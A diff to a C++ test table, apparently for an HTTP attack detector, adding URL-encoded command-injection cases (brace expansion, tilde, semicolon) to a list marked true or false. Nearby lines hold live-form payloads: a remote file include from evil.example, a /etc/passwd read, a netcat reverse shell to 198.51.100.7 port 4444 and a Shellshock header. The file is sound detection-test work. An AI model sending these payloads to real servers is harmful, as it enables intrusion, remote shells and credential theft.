@@ -306,6 +306,11 @@ constexpr SlotCase kSlotCases[] = {
     {3, true, "get /index.php?page=//evil.example/x.php http/1.1"},
     {3, false, "get /index.php?file=//cdn.example.com/img/logo.png http/1.1"},
     // Slot 4: OS command injection and code execution.
+    {4, true, "get /x?a=%7b%2cid%7d http/1.1"},
+    {4, true, "get /x?a=%7bls%2c%7d http/1.1"},
+    {4, true, "get /x?a=%7e%2d1 http/1.1"},
+    {4, true, "get /x?a=1%3bhtop http/1.1"},
+    {4, false, "get /x?a=%7b1%2c2%7d&b=~me&c=laptop+top http/1.1"},
     {4, true, "get /ping?host=127.0.0.1%3bcat%20/etc/passwd http/1.1"},
     {4, true, "get /ping?host=x%7cnc%20198.51.100.7%204444%20-e%20/bin/sh http/1.1"},
     {4, true, "get /cgi-bin/x http/1.1\" 200 1 \"-\" \"() { :; }; /bin/bash -c id\""},
